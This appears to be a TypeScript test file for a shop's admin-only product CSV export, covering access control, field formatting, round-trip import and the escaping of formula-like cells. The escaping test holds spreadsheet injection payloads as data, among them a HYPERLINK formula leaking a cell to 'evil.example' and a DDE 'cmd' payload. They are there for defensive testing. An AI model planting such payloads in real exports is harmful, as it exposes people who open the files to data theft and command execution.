import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { guardApostrophes, unescapeFormula } from './products-csv-rows';
import { createProduct } from '../../test/factories';
import { apiError, clientFor } from '../../test/test-app';
import {
  app,
  asAdmin,
  FULL_HEADER,
  importCsv,
  shop,
  shopper,
  useCsvShop,
} from './testing/csv-shop';

/** The catalogue as CSV: who may export it, what a file holds, and cells that stay text. */
useCsvShop();

describe('GET /api/product/export.csv', () => {
  it('is for admins only', async () => {
    expect((await apiError(shop.product.exportCsv())).status).toBe(401);
    expect((await apiError(clientFor(app, shopper).product.exportCsv())).status).toBe(403);
  });

  it('writes every product under the fixed header, lists joined by "|"', async () => {
    await createProduct(app, {
      productId: 'CSV-1',
      name: 'Sunset, "golden"',
      altNames: ['dusk', 'evening'],
      price: 4500.5,
      labeledPrice: 5000,
      category: 'Kitchen',
      description: 'Two lines\nof text',
      stock: 7,
      images: ['/uploads/a.jpg', '/uploads/b.jpg'],
    });
    await createProduct(app, { productId: 'CSV-2' });
    const text = await asAdmin.product.exportCsv();
    const answer = asAdmin.lastAnswer();
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toContain('text/csv');
    expect(answer.headers.get('content-disposition')).toMatch(/attachment; filename="products-/);
    expect(text.split('\n')[0]).toBe(FULL_HEADER);
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(2);
    expect(records[0]).toEqual({
      productId: 'CSV-1',
      kind: 'print',
      name: 'Sunset, "golden"',
      altNames: 'dusk|evening',
      price: '4500.50',
      labeledPrice: '5000.00',
      category: 'Kitchen',
      description: 'Two lines\nof text',
      stock: '7',
      sizes: '12x18 in|4500.5|5000|7',
      images: '/uploads/a.jpg|/uploads/b.jpg',
      name_si: '',
      description_si: '',
      name_ta: '',
      description_ta: '',
    });
  });

  it('writes cells a spreadsheet would run as formulas as text, and imports them back unchanged', async () => {
    const texts = {
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      description: '+cmd|" /C calc"!A0',
      altNames: ['@SUM(1+1)', '-2+3', '\uFF1Dwide'],
    };
    // Text that already starts with apostrophes, with and without a formula character after.
    const quoted = { name: "'=already quoted", description: "''+twice", altNames: ["'plain"] };
    await createProduct(app, { productId: 'FX-1', ...texts });
    await createProduct(app, { productId: 'FX-2', ...quoted });
    const exported = await asAdmin.product.exportCsv();
    const records = parse(exported, { columns: true }) as Record<string, string>[];
    const cells = records.flatMap((r) => [r.name, r.description, r.altNames]);
    // No cell starts with a formula character (before: 3 of 6 did).
    expect(cells.filter((cell) => /^[=+\-@\t\r\uFF1D]/.test(cell ?? ''))).toEqual([]);
    expect(records[0]?.name).toBe(`'${texts.name}`);
    expect(records[0]?.description).toBe(`'${texts.description}`);
    expect(records[0]?.altNames).toBe(`'${texts.altNames.join('|')}`);
    expect(records[1]?.name).toBe(`'${quoted.name}`);

    const before = await Promise.all(['FX-1', 'FX-2'].map((id) => shop.product.get(id)));
    expect(await importCsv(exported, false)).toMatchObject({ updated: 2, errors: [] });
    const after = await Promise.all(['FX-1', 'FX-2'].map((id) => shop.product.get(id)));
    expect(after.map((p) => [p.name, p.description, p.altNames])).toEqual(
      before.map((p) => [p.name, p.description, p.altNames]),
    );
    expect(after[0]).toMatchObject(texts);
    expect(after[1]).toMatchObject(quoted);
    expect(await asAdmin.product.exportCsv()).toBe(exported);
  });

  it('an export imports back unchanged', async () => {
    await createProduct(app, { productId: 'RT-1', altNames: ['a', 'b'], price: 12.34 });
    const exported = await asAdmin.product.exportCsv();
    expect(await importCsv(exported, false)).toEqual({
      dryRun: false,
      created: 0,
      updated: 1,
      errors: [],
      lowResolution: [],
    });
    expect(await asAdmin.product.exportCsv()).toBe(exported);
  });
});

describe('formula cells, one by one', () => {
  it('takes off the apostrophe the export put before =, +, -, @, a tab or a carriage return', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D']) {
      const text = `${start}1+1`;
      expect(unescapeFormula(`'${text}`), JSON.stringify(start)).toBe(text);
      expect(unescapeFormula(guardApostrophes(`'${text}`))).toBe(`'${text}`);
    }
    expect(unescapeFormula("'plain")).toBe("'plain");
    expect(guardApostrophes("'plain")).toBe("'plain");
  });
});
